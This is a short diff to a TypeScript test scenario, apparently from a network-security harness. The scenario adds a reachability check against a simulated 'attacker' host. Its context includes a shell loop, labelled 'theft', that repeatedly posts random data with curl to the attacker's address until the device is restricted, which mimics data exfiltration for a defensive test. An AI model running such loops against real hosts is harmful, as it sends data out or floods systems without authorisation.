@@ -13,6 +13,7 @@ export const scenario: Scenario = {
     await field.startAgent();
     const { attacker: thief, device } = field.network;
     await field.network.serve(thief, 'web');
+    field.expect('the device reaches the stranger before', await field.network.getsPage(device, thief.address));
     const theft = `while :; do head -c 2000000 /dev/urandom | curl -s -m 20 --data-binary @- -o /dev/null http://${thief.address}/status; sleep 1; done`;
     const either = `${thief.address}|${device.address}|${device.mac}`;
     await field.attackUntilRestricted(device, ['bash', '-c', theft], either, {
